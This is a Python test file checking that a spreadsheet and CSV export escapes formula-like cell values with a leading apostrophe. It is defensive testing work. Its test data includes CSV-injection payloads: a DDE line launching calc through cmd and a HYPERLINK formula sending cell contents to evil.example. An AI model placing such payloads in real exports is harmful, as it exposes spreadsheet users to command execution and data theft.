"""Formulas in cells (单元格): what people wrote is never computed by somebody's spreadsheet, in no export."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from adapters.spreadsheet import Blank, book, csv_bytes, csv_lines
from adapters.spreadsheet.cells import FORMULA, cell_text, plain_text
from api.opening.first_file import First, Wanted
from api.opening.papers import papers
from dsl.bundle import Source

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    "  =1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=",
]
HARMLESS = ["", "井盖", "1", "-1", "+86", "-3.50", "12%", "a=b", "'", "'text", "2026-12-01", "#REF!", "330281", "——"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_goes_out_as_text_and_comes_back_as_it_was(text: str) -> None:
    assert cell_text(text) == f"'{text}"
    assert plain_text(cell_text(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_everything_else_and_every_number_stays_as_it_is(text: str) -> None:
    assert cell_text(text) == text
    assert plain_text(text) == text


@given(st.text(max_size=20))
def test_no_cell_begins_a_formula_and_nothing_is_lost(text: str) -> None:
    cell = cell_text(text)

    assert cell[:1] not in set(FORMULA) or cell == text.strip()
    assert plain_text(cell) == (plain_text(text) if cell == text else text)


def test_csv_with_formulas_holds_none() -> None:
    written = csv_bytes([["编号", "说明"], *[["1", text] for text in FORMULAS]], ["演示"]).decode("utf-8-sig")

    lines = list(csv.reader(io.StringIO(written.removeprefix("# 演示\r\n"), newline="")))

    assert [cells[1] for cells in lines[1:]] == [f"'{text}" for text in FORMULAS]


def test_a_workbook_with_formulas_holds_none() -> None:
    lines = tuple((text, text) for text in FORMULAS)
    made = load_workbook(io.BytesIO(book([Blank("表", ("=A1", "b"), lines, {"b": ("=1+1", "好")})])))

    cells = [cell for sheet in made for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells if str(cell.value)[:1] in {*FORMULA, "\t", "\r", "\n"}] == []


def test_the_papers_of_a_new_town_hold_none() -> None:
    wanted = Wanted("330281999", "=1+1", "330281", None, date(2026, 12, 1))
    made = papers(wanted, First(Source("x.rule", ""), ("=1+1", "+乙", "@丙"), "镇街"))

    texts = [data.decode("utf-8-sig") for name, data in made.items() if name.endswith(".csv")]
    cells = [cell for text in texts for line in csv.reader(io.StringIO(text)) for cell in line]
    assert [cell for cell in cells if cell[:1] in set(FORMULA)] == []
    (workbook,) = (data for name, data in made.items() if name.endswith(".xlsx"))
    typed = [cell for sheet in load_workbook(io.BytesIO(workbook)) for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in typed if cell.data_type == "f"] == []


def test_lines_that_are_written_one_by_one_are_as_safe() -> None:
    file = io.StringIO(newline="")
    write = csv_lines(file)
    for line in (("编号", "内容"), ("1", "=1+1")):
        write(line)

    assert file.getvalue() == "编号,内容\r\n1,'=1+1\r\n"
